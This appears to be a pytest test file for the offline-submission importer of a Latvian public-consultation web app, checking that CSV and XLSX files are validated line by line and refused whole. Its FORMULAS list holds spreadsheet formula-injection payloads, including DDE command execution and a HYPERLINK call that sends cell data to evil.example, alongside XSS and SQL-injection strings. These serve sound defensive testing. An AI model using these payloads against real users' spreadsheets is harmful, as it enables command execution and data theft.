"""Offline submissions (consult.services.submissions): reading CSV and XLSX files, every bad input
refused with its line and nothing stored, and what an imported submission becomes."""
from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from flask_babel import force_locale

from consult import refusals
from consult.services.refusals import Refused

from .pages import CLOSED, DEMO

HEADINGS = "section,paragraph,stance,text,respondent type,organisation,received date,channel"
# The "formula" group of the shared hostile inputs (testdata/hostile_inputs.json), and a minus.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-2+3"]


def csv_bytes(*lines: str, headings: str = HEADINGS, delimiter: str = ",") -> bytes:
    text = "\n".join([headings, *lines]) + "\n"
    return text.replace(",", delimiter).encode("utf-8") if delimiter != "," else text.encode("utf-8")


def xlsx_bytes(rows: list[list]) -> bytes:
    from openpyxl import Workbook
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def consultation(slug=DEMO):
    from consult.extensions import db
    from consult.models import Consultation
    return db.session.query(Consultation).filter_by(slug=slug).one()


def messages_in(lang: str, refused: Refused) -> list[str]:
    """A refused file's messages, each with its line and column, in the language."""
    with force_locale(lang):
        return refusals.messages(refused)


def run_import(app, data: bytes, filename="letters.csv", slug=DEMO, entered_by=None):
    """(stored count, None) or (None, the messages in English)."""
    from consult.services import submissions
    with app.app_context():
        try:
            return submissions.import_file(consultation(slug), data, filename, entered_by=entered_by), None
        except Refused as refused:
            return None, messages_in("en", refused)


def comment_count(app) -> int:
    from consult.extensions import db
    from consult.models import Comment
    with app.app_context():
        return db.session.query(Comment).count()


GOOD = ("1,2,supports,Atbalstām šo punktu.,citizen,,2026-03-02,letter",
        "2,,objects,Iebilstam pret termiņiem.,,Biedrība „Saules stari”,03.03.2026,e-mail",
        "3,3.1,asks,Kā tas tiks finansēts?,municipality,Ogres novada pašvaldība,2026-03-04,meeting")


# --- Good files ---------------------------------------------------------------------------------

def test_a_csv_file_becomes_pending_comments_with_their_channel_and_sender(app, demo, make_user):
    from consult.extensions import db
    from consult.models import Comment, ModerationEvent, User
    from consult.services.submissions import is_offline_sender
    staff = make_user(role="workgroup")
    with app.app_context():
        entered_by = db.session.get(User, staff)
        stored, problems = run_import(app, csv_bytes(*GOOD), entered_by=entered_by)
    assert problems is None and stored == 3
    with app.app_context():
        comments = db.session.query(Comment).order_by(Comment.id).all()
        assert [c.channel for c in comments] == ["letter", "email", "meeting"]
        assert [c.received_on for c in comments] == [date(2026, 3, 2), date(2026, 3, 3), date(2026, 3, 4)]
        assert [c.stance for c in comments] == ["supports", "objects", "asks"]
        # An organisation's letter without a respondent type is from an organisation.
        assert [c.sender_type for c in comments] == ["citizen", "organisation", "municipality"]
        assert [c.sender_organisation for c in comments] == [None, "Biedrība „Saules stari”", "Ogres novada pašvaldība"]
        assert [c.status for c in comments] == ["pending"] * 3     # the demo consultation is pre-moderated
        assert comments[0].paragraph.number == 2 and comments[1].paragraph is None
        assert comments[2].paragraph.number == 1 and comments[2].section.number == 3
        assert all(c.entered_by_id == staff for c in comments)
        sender = comments[0].author
        assert is_offline_sender(sender) and sender.email is None and sender.password_hash == ""
        assert {c.author_id for c in comments} == {sender.id}
        assert comments[1].public_name == "Biedrība „Saules stari”" and comments[0].public_name is None
        assert comments[2].respondent_kind == "municipality"
        event = db.session.query(ModerationEvent).one()
        assert (event.action, event.actor_id, event.note) == ("enter_submissions", staff, "3 · letters.csv")


def test_semicolons_latvian_headings_and_labels_and_a_byte_order_mark_are_understood(app, demo):
    from consult.extensions import db
    from consult.models import Comment
    data = ("\ufeffSadaļa;Punkts;Nostāja;Teksts;Respondenta veids;Organizācija;Saņemšanas datums;Kanāls;Valoda\n"
            "1;1;Atbalsta;\"Labs priekšlikums; atbalstām\";Iedzīvotājs;;2.3.2026.;vēstule;lv\n"
            "2;;Ierosina izmaiņas;Please add a deadline.;Business;SIA Piemērs;2026-03-05;E-pasts;English\n"
            ).encode("utf-8")
    stored, problems = run_import(app, data)
    assert problems is None and stored == 2
    with app.app_context():
        first, second = db.session.query(Comment).order_by(Comment.id).all()
        assert first.body == "Labs priekšlikums; atbalstām" and first.stance == "supports"
        assert first.received_on == date(2026, 3, 2) and first.channel == "letter"
        assert (second.stance, second.sender_type, second.channel, second.language) == (
            "proposes", "business", "email", "en")


def test_headings_without_diacritics_in_any_case_and_order_and_optional_columns_left_out(app, demo):
    data = "CHANNEL,Received_Date,Teksts,sadala\nMeeting,2026-01-10,Runājām par dienas centriem.,4\n".encode()
    stored, problems = run_import(app, data)
    assert problems is None and stored == 1


def test_an_empty_stance_is_a_proposal(app, demo):
    from consult.extensions import db
    from consult.models import Comment
    assert run_import(app, csv_bytes("1,,,Ierosinām papildināt.,,,2026-03-02,letter")) == (1, None)
    with app.app_context():
        assert db.session.query(Comment).one().stance == "proposes"


def test_an_xlsx_file_with_number_and_date_cells_is_imported(app, demo):
    from datetime import datetime

    from consult.extensions import db
    from consult.models import Comment
    data = xlsx_bytes([
        ["section", "paragraph", "stance", "text", "respondent type", "organisation", "received date", "channel"],
        [1, 2, "supports", "Atbalstām.", "citizen", None, datetime(2026, 3, 2), "letter"],
        [],
        [2.0, None, "objects", "Iebilstam.", None, None, "2026-03-03", "meeting"],
    ])
    stored, problems = run_import(app, data, filename="vestules.xlsx")
    assert problems is None and stored == 2
    with app.app_context():
        first, second = db.session.query(Comment).order_by(Comment.id).all()
        assert first.paragraph.number == 2 and first.received_on == date(2026, 3, 2)
        assert second.section.number == 2 and second.channel == "meeting"


def test_a_cell_over_several_lines_keeps_the_line_numbers_of_the_file(app, demo):
    data = csv_bytes('1,,supports,"Pirmā rinda\notrā rinda\ntrešā",,,2026-03-02,letter',
                     "1,,supports,,,,2026-03-02,letter")
    stored, problems = run_import(app, data)
    assert stored is None and problems == ["Line 5, column “text”: the text is empty."]


def test_in_a_post_moderated_consultation_they_are_published_at_once_and_found_by_search(app, demo):
    from consult.extensions import db
    from consult.models import Comment
    assert run_import(app, csv_bytes("1,,supports,Vēstule par sociālajiem dzīvokļiem.,,,2026-03-02,letter"),
                      slug=CLOSED) == (1, None)
    with app.app_context():
        comment = db.session.query(Comment).one()
        assert comment.status == "approved" and comment.needs_review
    page = app.test_client().get(f"/lv/consultations/{CLOSED}/sections/1/").get_data(as_text=True)
    assert "Vēstule par sociālajiem dzīvokļiem." in page and "(Vēstule)" in page
    found = app.test_client().get("/lv/search?q=dz%C4%ABvok%C4%BCi").get_data(as_text=True)
    assert "sociālajiem" in found and "(Vēstule)" in found


def test_hostile_text_is_stored_exactly(app, demo):
    from consult.extensions import db
    from consult.models import Comment
    texts = ['<script>alert("x")</script>', "Robert'); DROP TABLE comments;--", "ā" * 30, "Ēriks 👩\u200d💻"]
    lines = [f'1,,asks,"{t.replace(chr(34), chr(34) * 2)}",,,2026-03-02,letter' for t in texts]
    assert run_import(app, csv_bytes(*lines)) == (4, None)
    with app.app_context():
        assert [c.body for c in db.session.query(Comment).order_by(Comment.id)] == texts


# --- Bad input: a clear message naming the line, and nothing imported -------------------------

def test_an_unknown_column_is_named_and_nothing_is_imported(app, demo):
    stored, problems = run_import(app, csv_bytes(*GOOD, headings=HEADINGS + ",email address"))
    assert stored is None and len(problems) == 1
    assert problems[0].startswith("Line 1: there is no column “email address”. The columns are: section, paragraph")
    assert comment_count(app) == 0


def test_a_missing_required_column_and_a_column_given_twice_are_named(app, demo):
    _, problems = run_import(app, b"section,text,text,channel\n1,a,b,letter\n")
    assert problems == ["Line 1: the column “text” is given twice.",
                        "Line 1: the column “received date” is missing; it is required."]


def test_an_unknown_section_or_paragraph_is_named_with_its_line(app, demo):
    stored, problems = run_import(app, csv_bytes(
        GOOD[0], "99,,supports,Teksts.,,,2026-03-02,letter", "1,9,supports,Teksts.,,,2026-03-02,letter",
        "1,2.1,supports,Teksts.,,,2026-03-02,letter", "x,,supports,Teksts.,,,2026-03-02,letter",
        "1,pirmais,supports,Teksts.,,,2026-03-02,letter"))
    assert stored is None and comment_count(app) == 0
    assert problems == [
        "Line 3, column “section”: this consultation has no published section 99.",
        "Line 4, column “paragraph”: section 1 has no paragraph 9.",
        "Line 5, column “paragraph”: paragraph 2.1 is not in section 1.",
        "Line 6, column “section”: “x” is not a section number.",
        "Line 7, column “paragraph”: “pirmais” is not a paragraph number. Give the paragraph's number in its "
        "section (3), or its label (2.3).",
    ]


def test_an_empty_text_is_refused_and_so_are_the_good_lines_with_it(app, demo):
    stored, problems = run_import(app, csv_bytes(*GOOD, "1,,supports,   ,,,2026-03-02,letter"))
    assert stored is None and problems == ["Line 5, column “text”: the text is empty."]
    assert comment_count(app) == 0


def test_a_50_megabyte_file_is_refused(app, demo):
    data = csv_bytes(*GOOD) + b"1,,supports," + b"a" * (50 * 1024 * 1024) + b",,,2026-03-02,letter\n"
    stored, problems = run_import(app, data)
    assert stored is None and problems == [
        "The file is larger than 10 MB, the most that can be imported at once. Split it into smaller files."]
    assert comment_count(app) == 0


def test_a_file_that_is_not_utf8_is_refused_with_the_line_of_the_first_bad_byte(app, demo):
    data = (HEADINGS + "\n1,2,supports,Atbalstam.,citizen,,2026-03-02,letter\n"
            "1,,objects,Iebilstam pret šo,,,2026-03-02,letter\n").encode("cp1257")
    stored, problems = run_import(app, data)
    assert stored is None and problems == [
        "Line 3: the text is not in the UTF-8 encoding. Save the file as “CSV UTF-8” and import it again."]
    assert comment_count(app) == 0


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_refused(app, demo, cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    stored, problems = run_import(app, csv_bytes(GOOD[0], f"1,,supports,{quoted},,,2026-03-02,letter"))
    assert stored is None and comment_count(app) == 0
    first = cell.lstrip(" ")[0]
    shown = {"\t": "TAB", "\r": "CR"}.get(first, first)
    assert problems == [f"Line 3, column “text”: the cell starts with “{shown}”, which spreadsheet programs run "
                        "as a formula. Remove that character or begin the cell with a word."]


def test_formula_cells_are_refused_in_other_columns_too(app, demo):
    for cell in FORMULAS:
        quoted = '"' + cell.replace('"', '""') + '"'
        _, problems = run_import(app, csv_bytes(f"1,,supports,Teksts.,,{quoted},2026-03-02,letter"))
        assert problems and "column “organisation”" in problems[0] and "formula" in problems[0], cell
    assert comment_count(app) == 0


def test_a_formula_cell_in_an_xlsx_file_is_refused(app, demo):
    data = xlsx_bytes([["section", "text", "received date", "channel"], [1, "=1+1", "2026-03-02", "letter"]])
    _, problems = run_import(app, data, filename="a.xlsx")
    assert problems and problems[0].startswith("Line 2, column “text”: the cell starts with “=”")


def test_every_refused_line_is_named_once_per_problem(app, demo):
    future = (date.today() + timedelta(days=40)).isoformat()
    _, problems = run_import(app, csv_bytes(
        "1,,likes,Teksts.,alien,,2026-03-02,letter", f"1,,supports,Teksts.,,,{future},pigeon",
        "1,,supports,Teksts.,,,31.02.2026,", "1,,supports,Teksts.,,,,web"))
    assert problems == [
        "Line 2, column “stance”: “likes” is not a stance. Use one of: supports, objects, proposes, asks.",
        "Line 2, column “respondent type”: “alien” is not a respondent type. Use one of: citizen, organisation, "
        "municipality, business, academic, other.",
        f"Line 3, column “received date”: the date {future} is in the future.",
        "Line 3, column “channel”: “pigeon” is not a channel. Use letter, e-mail or meeting.",
        "Line 4, column “received date”: “31.02.2026” is not a date. Write it as year-month-day (2026-03-21) or "
        "day.month.year (21.03.2026).",
        "Line 4, column “channel”: say how it came: letter, e-mail or meeting.",
        "Line 5, column “received date”: give the date it was received.",
        "Line 5, column “channel”: “web” is not a channel. Use letter, e-mail or meeting.",
    ]


def test_messages_name_the_column_as_the_file_writes_it_and_come_in_latvian(app, demo):
    from consult.services import submissions
    data = "Sadaļa;Teksts;Saņemšanas datums;Kanāls\n1;;2026-03-02;vēstule\n".encode()
    with app.app_context():
        with pytest.raises(Refused) as refused:
            submissions.import_file(consultation(), data, "a.csv")
        assert messages_in("lv", refused.value) == ["2. rinda, kolonna „Teksts”: teksts ir tukšs."]


def test_a_text_too_long_an_organisation_too_long_and_extra_cells_are_refused(app, demo):
    _, problems = run_import(app, csv_bytes(f"1,,supports,{'a' * 50_001},,,2026-03-02,letter",
                                            f"1,,supports,Teksts.,,{'O' * 201},2026-03-02,letter",
                                            "1,,supports,Teksts.,,,2026-03-02,letter,extra"))
    assert problems == [
        "Line 2, column “text”: the text has 50,001 characters; at most 50,000 are allowed.",
        "Line 3, column “organisation”: the organisation's name has 201 characters; at most 200 are allowed.",
        "Line 4: the line has more cells than there are column headings.",
    ]


def test_broken_files_are_refused_with_a_message(app, demo):
    assert run_import(app, b"") == (None, ["The file is empty."])
    assert run_import(app, HEADINGS.encode() + b"\n") == (None, ["The file has column headings but no submissions."])
    assert run_import(app, b"PK\x03\x04 not really a workbook", filename="a.xlsx")[1] == [
        "The file cannot be opened as an Excel workbook (.xlsx). Save it again from the spreadsheet program, "
        "or save it as CSV UTF-8."]
    assert run_import(app, b"%PDF-1.4", filename="letter.pdf")[1] == [
        "Choose a CSV file (.csv) or an Excel workbook (.xlsx)."]
    assert run_import(app, csv_bytes('1,,supports,"never closed,,,2026-03-02,letter'))[1] == [
        "Line 2: the line cannot be read as CSV: a quotation mark is not closed, or it holds a NUL character."]
    assert comment_count(app) == 0


def test_the_same_file_is_not_imported_twice(app, demo):
    data = csv_bytes(*GOOD)
    assert run_import(app, data) == (3, None)
    assert run_import(app, data) == (None, [
        "This file was imported into this consultation already, so nothing was imported again."])
    assert comment_count(app) == 3


def test_a_draft_consultation_takes_no_submissions(app, demo):
    from consult.extensions import db
    with app.app_context():
        consultation().status = "draft"
        db.session.commit()
    assert run_import(app, csv_bytes(*GOOD))[1] == [
        "This consultation is not published yet, so nothing can be entered for it."]


def test_a_database_error_midway_stores_nothing(app, demo, monkeypatch):
    """All or nothing: the comments and the audit row are one transaction."""
    from sqlalchemy.exc import OperationalError

    from consult.extensions import db
    from consult.services import submissions
    real_commit = db.session.commit
    calls = {"n": 0}

    def failing_commit():
        calls["n"] += 1
        if db.session.new and any(getattr(o, "channel", None) == "letter" for o in db.session.new):
            db.session.flush()  # the rows reach the database …
            raise OperationalError("COMMIT", {}, Exception("disk full"))   # … and the commit fails
        return real_commit()
    with app.app_context():
        monkeypatch.setattr(db.session, "commit", failing_commit)
        with pytest.raises(OperationalError):
            submissions.import_file(consultation(), csv_bytes(*GOOD), "a.csv")
        monkeypatch.undo()
    assert comment_count(app) == 0


# --- One submission from the page's form --------------------------------------------------------

def test_the_form_checks_the_same_way_and_names_the_fields(app, demo, make_user):
    from consult.extensions import db
    from consult.models import User
    from consult.services import submissions
    staff = make_user(role="workgroup")
    with app.app_context():
        user = db.session.get(User, staff)
        with pytest.raises(Refused) as refused:
            submissions.add_submission(consultation(), {"section": "1", "paragraph": "7", "text": " ",
                                                        "received_date": "2026-13-01", "channel": "letter"},
                                       user, "key-1")
        with pytest.raises(Refused):
            submissions.add_submission(consultation(), {"section": "1", "text": "x", "received_date": "2026-03-01",
                                                        "channel": "web"}, user, "key-1")
        problems = refusals.problems(refused.value)
        assert [(p.field, p.details["line"]) for p in problems] == [("paragraph", None), ("text", None),
                                                                     ("received_date", None)]
        with force_locale("en"):
            assert refusals.message(problems[1]) == "The text is empty."
        values = {"section": "2", "paragraph": "1", "stance": "objects", "text": "=SUM(A1) ir formula, bet teksts",
                  "respondent_type": "business", "organisation": "SIA Piemērs", "received_date": "2026-03-01",
                  "channel": "email", "language": "lv"}
        first = submissions.add_submission(consultation(), values, user, "key-2")
        again = submissions.add_submission(consultation(), values, user, "key-2")
        assert first.id == again.id and first.body.startswith("=SUM") and first.channel == "email"
    assert comment_count(app) == 1


def test_the_placeholder_sender_cannot_sign_in_and_gets_no_mail(app, demo, make_user):
    from consult.extensions import db
    from consult.models import Comment, User
    from consult.services import moderation
    assert run_import(app, csv_bytes(*GOOD)) == (3, None)
    moderator = make_user(role="moderator")
    with app.app_context():
        comment = db.session.query(Comment).first()
        moderation.approve(comment, db.session.get(User, moderator))
        assert comment.status == "approved"
    from .conftest import outbox_messages
    assert outbox_messages(app) == []
    response = app.test_client().post("/en/account/login/", data={"email": "", "password": ""})
    assert response.status_code in (200, 400)


# --- The command line ---------------------------------------------------------------------------

def test_the_command_imports_a_file_and_says_how_many(app, demo, runner, make_user, tmp_path):
    from consult.extensions import db
    from consult.models import Comment
    staff = make_user(role="workgroup", email="darba.grupa@example.test")
    path = tmp_path / "vēstules.csv"
    path.write_bytes(csv_bytes(*GOOD))
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, "--entered-by",
                                 "Darba.Grupa@example.test", str(path)])
    assert result.exit_code == 0, result.output
    assert f"Imported 3 submission(s) into {DEMO}, waiting for moderation." in result.output
    with app.app_context():
        assert {c.entered_by_id for c in db.session.query(Comment)} == {staff}


def test_the_command_names_every_refused_line_and_imports_nothing(app, demo, runner, tmp_path):
    path = tmp_path / "letters.csv"
    path.write_bytes(csv_bytes(GOOD[0], "70,,supports,Teksts.,,,2026-03-02,letter", "1,,supports,,,,2026-03-02,fax"))
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "Line 3, column “section”: this consultation has no published section 70.",
        "Line 4, column “text”: the text is empty.",
        "Line 4, column “channel”: “fax” is not a channel. Use letter, e-mail or meeting.",
        f"Nothing was imported: 3 problem(s) in {path}.",
    ]
    assert comment_count(app) == 0


def test_the_command_gives_its_messages_in_latvian_on_request(app, demo, runner, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes("1,,supports,=1+1,,,2026-03-02,letter"))
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, "--lang", "lv", str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0].startswith("2. rinda, kolonna „text”:")


def test_the_command_refuses_a_50_megabyte_file_without_reading_it(app, demo, runner, tmp_path):
    path = tmp_path / "big.csv"
    with path.open("wb") as target:
        target.write(csv_bytes(*GOOD))
        target.truncate(50 * 1024 * 1024)   # a sparse file: 50 MB long, hardly any disk used
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, str(path)])
    assert result.exit_code == 1 and "The file is larger than 10 MB" in result.stderr
    assert comment_count(app) == 0


def test_the_command_refuses_an_unknown_consultation_or_account(app, demo, runner, make_user, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes(*GOOD))
    result = runner.invoke(args=["import-submissions", "--consultation", "nav-tadas", str(path)])
    assert result.exit_code == 2 and "There is no consultation with the slug 'nav-tadas'." in result.output
    make_user(role="citizen", email="iedzivotajs@example.test")
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, "--entered-by",
                                 "iedzivotajs@example.test", str(path)])
    assert result.exit_code == 2 and "no working-group, moderator or admin account" in result.output
    assert comment_count(app) == 0


# --- The working group's page -------------------------------------------------------------------

PAGE = f"/lv/workgroup/{DEMO}/submissions/"
ONE = {"channel": "letter", "received_date": "2026-03-02", "section": "2", "paragraph": "1", "stance": "objects",
       "text": "Iebilstam: termiņš „2026. gada marts” ir par īsu.", "language": "lv", "respondent_type": "business",
       "organisation": "SIA Piemērs"}


@pytest.fixture
def member(app, demo, make_user, login):
    from .test_workgroup import add_member
    user_id = make_user(role="workgroup", display_name="Darba grupas locekle")
    add_member(app, user_id)
    client = app.test_client()
    login(client, user_id)
    client.user_id = user_id
    return client


def _post(client, url, data, **kwargs):
    from .conftest import csrf_token_from
    html = client.get(PAGE.replace("/lv/", url[:4], 1)).get_data(as_text=True)
    key = __import__("re").search(r'name="idempotency_key" type="hidden" value="([^"]*)"', html)
    extra = {"idempotency_key": key.group(1)} if key and "idempotency_key" not in data else {}
    return client.post(url, data={"csrf_token": csrf_token_from(html), **extra, **data}, **kwargs)


@pytest.mark.parametrize("role", ["citizen", "organisation", "moderator", "editor"])
def test_other_roles_get_403_on_the_page_and_nothing_is_stored(app, demo, make_user, login, role):
    from .conftest import csrf_token_from
    client = app.test_client()
    login(client, make_user(role=role))
    token = csrf_token_from(client.get("/lv/").get_data(as_text=True))
    assert client.get(PAGE).status_code == 403
    assert client.post(PAGE, data={**ONE, "csrf_token": token}).status_code == 403
    upload = {"csrf_token": token, "file": (io.BytesIO(csv_bytes(*GOOD)), "a.csv")}
    assert client.post(PAGE + "import/", data=upload, content_type="multipart/form-data").status_code == 403
    assert comment_count(app) == 0


def test_a_visitor_is_sent_to_sign_in(app, demo):
    response = app.test_client().get(PAGE)
    assert response.status_code == 302 and "/login/" in response.headers["Location"]


@pytest.mark.parametrize("lang", ["lv", "en"])
def test_the_page_has_both_forms_in_each_language(member, lang):
    response = member.get(f"/{lang}/workgroup/{DEMO}/submissions/")
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    heading = "Iesniegumi ārpus vietnes" if lang == "lv" else "Offline submissions"
    assert f"<h1>{heading}</h1>" in html
    assert 'name="text"' in html and 'type="file"' in html and 'enctype="multipart/form-data"' in html


def test_a_member_enters_a_letter_and_it_waits_for_moderation(app, member):
    from consult.extensions import db
    from consult.models import Comment
    response = _post(member, PAGE, ONE)
    assert response.status_code == 303 and response.headers["Location"].endswith(PAGE)
    with app.app_context():
        comment = db.session.query(Comment).one()
        assert (comment.channel, comment.received_on, comment.section.number, comment.paragraph.number) == (
            "letter", date(2026, 3, 2), 2, 1)
        assert (comment.sender_type, comment.sender_organisation, comment.entered_by_id, comment.status) == (
            "business", "SIA Piemērs", member.user_id, "pending")
        assert comment.body == ONE["text"]
    page = member.get(PAGE).get_data(as_text=True)
    assert f"komentārs nr. {comment.id}" in page.lower() or str(comment.id) in page
    assert "Vēstule: 1" in page


def test_the_same_form_sent_twice_stores_one_submission(app, member):
    from .conftest import csrf_token_from
    html = member.get(PAGE).get_data(as_text=True)
    key = __import__("re").search(r'name="idempotency_key" type="hidden" value="([^"]+)"', html).group(1)
    data = {**ONE, "csrf_token": csrf_token_from(html), "idempotency_key": key}
    assert member.post(PAGE, data=data).status_code == 303
    assert member.post(PAGE, data=data).status_code == 303
    assert comment_count(app) == 1


def test_a_bad_submission_gets_messages_beside_the_fields_and_keeps_what_was_typed(app, member):
    bad = {**ONE, "section": "99", "paragraph": "x", "received_date": "rīt", "channel": "", "text": ONE["text"]}
    response = _post(member, PAGE, bad)
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and "<title>Kļūda:" in html
    assert 'id="section-error"' in html and 'id="received_date-error"' in html and 'id="channel-error"' in html
    assert "„rīt” nav datums" in html
    assert "Iebilstam: termiņš „2026. gada marts” ir par īsu." in html   # what was typed stays
    assert 'value="SIA Piemērs"' in html
    assert comment_count(app) == 0


def test_a_missing_csrf_token_is_400_and_stores_nothing(app, member):
    assert member.post(PAGE, data=ONE).status_code == 400
    upload = {"file": (io.BytesIO(csv_bytes(*GOOD)), "a.csv")}
    assert member.post(PAGE + "import/", data=upload, content_type="multipart/form-data").status_code == 400
    assert comment_count(app) == 0


def test_a_member_uploads_a_file(app, member):
    response = _post(member, PAGE + "import/", {"file": (io.BytesIO(csv_bytes(*GOOD)), "vēstules.csv")},
                     content_type="multipart/form-data")
    assert response.status_code == 303
    assert comment_count(app) == 3
    assert "Importēti 3 iesniegumi no vēstules.csv." in member.get(PAGE).get_data(as_text=True)


@pytest.mark.parametrize("lang", ["lv", "en"])
def test_a_bad_file_lists_every_refused_line_beside_the_field(app, member, lang):
    data = csv_bytes(GOOD[0], "70,,supports,Teksts.,,,2026-03-02,letter", "1,,supports,@SUM(1),,,2026-03-02,letter")
    response = _post(member, f"/{lang}/workgroup/{DEMO}/submissions/import/", {"file": (io.BytesIO(data), "a.csv")},
                     content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and 'id="file-error"' in html and 'aria-invalid="true"' in html
    if lang == "en":
        assert "<title>Error:" in html
        assert "Line 3, column “section”: this consultation has no published section 70." in html
        assert "Line 4, column “text”: the cell starts with “@”" in html
    else:
        assert "<title>Kļūda:" in html and "3. rinda, kolonna „section”" in html and "4. rinda, kolonna „text”" in html
    assert comment_count(app) == 0


def test_a_50_megabyte_upload_gets_the_limit_beside_the_field(app, member):
    big = io.BytesIO(csv_bytes(*GOOD) + b"x" * (50 * 1024 * 1024))
    response = _post(member, f"/en/workgroup/{DEMO}/submissions/import/", {"file": (big, "big.csv")},
                     content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "The file is larger than 10 MB, the most that can be imported at once." in html
    assert comment_count(app) == 0


def test_an_upload_without_a_file_says_so(app, member):
    response = _post(member, f"/en/workgroup/{DEMO}/submissions/import/", {}, content_type="multipart/form-data")
    assert response.status_code == 400 and "Choose the CSV or Excel file to import." in response.get_data(as_text=True)


# --- Marked with their channel everywhere ---------------------------------------------------------

def test_offline_submissions_are_marked_everywhere_and_counted_apart(app, member, make_user, login, tmp_path,
                                                                     runner):
    from consult.extensions import db
    from consult.models import Comment, User
    from consult.services import moderation

    from .test_workgroup import add_comment
    add_comment(app, make_user(), body="Komentārs no vietnes.", section=1)
    assert run_import(app, csv_bytes(*GOOD)) == (3, None)
    moderator_id = make_user(role="moderator")
    queue_client = app.test_client()
    login(queue_client, moderator_id)
    queue = queue_client.get("/en/moderation/").get_data(as_text=True)
    assert "Sender: Biedrība „Saules stari”" in queue and "received on 3 March 2026" in queue
    assert queue.count("Suspend the author") == 0
    with app.app_context():
        moderator = db.session.get(User, moderator_id)
        for comment in db.session.query(Comment).filter(Comment.channel != "web"):
            moderation.approve(comment, moderator)
        sender = db.session.query(Comment).filter(Comment.channel == "letter").one().author
        with pytest.raises(Refused):
            moderation.suspend(sender, moderator)
    # the public section page
    page = app.test_client().get(f"/en/consultations/{DEMO}/sections/2/").get_data(as_text=True)
    assert "Biedrība „Saules stari” (E-mail)" in page and "received on 3 March 2026" in page
    # the feedback table, with its channel filter
    table = member.get(f"/en/workgroup/{DEMO}/?channel=meeting").get_data(as_text=True)
    assert "Kā tas tiks finansēts?" in table and "Atbalstām šo punktu." not in table and "Meeting" in table
    assert "1 item" in table
    by_type = member.get(f"/en/workgroup/{DEMO}/?respondent=municipality").get_data(as_text=True)
    assert "Kā tas tiks finansēts?" in by_type and "Komentārs no vietnes." not in by_type
    # the summary counts them apart
    summary = member.get(f"/en/workgroup/{DEMO}/summary/").get_data(as_text=True)
    assert "Offline submissions</dt><dd>3</dd>" in summary and "Participants</dt><dd>1</dd>" in summary
    assert "Comments by channel" in summary
    # the API
    api = app.test_client().get(f"/api/v1/consultations/{DEMO}/comments").get_json()
    channels = {item["body"]: (item["channel"], item["received_on"], item["author"]) for item in api["items"]}
    assert channels["Iebilstam pret termiņiem."] == (
        "email", "2026-03-03", {"name": "Biedrība „Saules stari”", "respondent_type": None})
    assert channels["Atbalstām šo punktu."] == ("letter", "2026-03-02", {"name": None, "respondent_type": "citizen"})
    # the exports
    output = tmp_path / "export.csv"
    result = runner.invoke(args=["export", "--consultation", DEMO, "--format", "csv", "--output", str(output),
                                 "--lang", "en"])
    assert result.exit_code == 0, result.output
    import csv as csv_module
    rows = list(csv_module.DictReader(io.StringIO(output.read_text("utf-8-sig"))))
    by_text = {row["Proposal"]: row for row in rows}
    assert by_text["Kā tas tiks finansēts?"]["Channel"] == "Meeting"
    assert by_text["Kā tas tiks finansēts?"]["Submitter"] == "Ogres novada pašvaldība"
    assert by_text["Kā tas tiks finansēts?"]["Respondent type"] == "Municipality"
    assert by_text["Komentārs no vietnes."]["Channel"] == "This site"


def test_pages_showing_offline_submissions_are_valid_html(app, member, make_user, login, tmp_path):
    from .test_html_valid import check_html
    assert run_import(app, csv_bytes(*GOOD), slug=CLOSED) == (3, None)   # post-moderated: public at once
    assert run_import(app, csv_bytes(*GOOD)) == (3, None)
    moderator = app.test_client()
    login(moderator, make_user(role="moderator"))
    pages = {}
    for lang in ("lv", "en"):
        pages[f"/{lang}/moderation/"] = moderator.get(f"/{lang}/moderation/").get_data(as_text=True)
        for number in (1, 2, 3):
            url = f"/{lang}/consultations/{CLOSED}/sections/{number}/"
            pages[url] = app.test_client().get(url).get_data(as_text=True)
        pages[f"/{lang}/workgroup/{DEMO}/?status=all"] = member.get(
            f"/{lang}/workgroup/{DEMO}/?status=all").get_data(as_text=True)
    assert "(E-mail)" in pages[f"/en/consultations/{CLOSED}/sections/2/"]
    assert "tag-channel" in pages[f"/lv/workgroup/{DEMO}/?status=all"]
    assert check_html(pages, tmp_path) == []


def test_a_line_with_a_formula_has_its_other_problems_named_too(app, demo):
    _, problems = run_import(app, csv_bytes("70,,supports,=1+1,,,31.02.2026,fax"))
    assert problems == [
        "Line 2, column “text”: the cell starts with “=”, which spreadsheet programs run as a formula. Remove that "
        "character or begin the cell with a word.",
        "Line 2, column “section”: this consultation has no published section 70.",
        "Line 2, column “received date”: “31.02.2026” is not a date. Write it as year-month-day (2026-03-21) or "
        "day.month.year (21.03.2026).",
        "Line 2, column “channel”: “fax” is not a channel. Use letter, e-mail or meeting.",
    ]


def test_the_command_can_publish_vetted_letters_in_a_moderators_name(app, demo, runner, make_user, tmp_path):
    from consult.extensions import db
    from consult.models import Comment, ModerationEvent
    from consult.services.summary import analyse_texts
    moderator = make_user(role="moderator", email="moderators@example.test")
    path = tmp_path / "kampana.csv"
    letter = ("Mēs, iedzīvotāji, lūdzam saglabāt dienas centru mūsu pagastā, jo tas palīdz ģimenēm un vecākiem "
              "cilvēkiem.")
    path.write_bytes(csv_bytes(*[f'1,,objects,"{letter}",,,2026-03-0{day},letter' for day in (2, 3, 4)]))
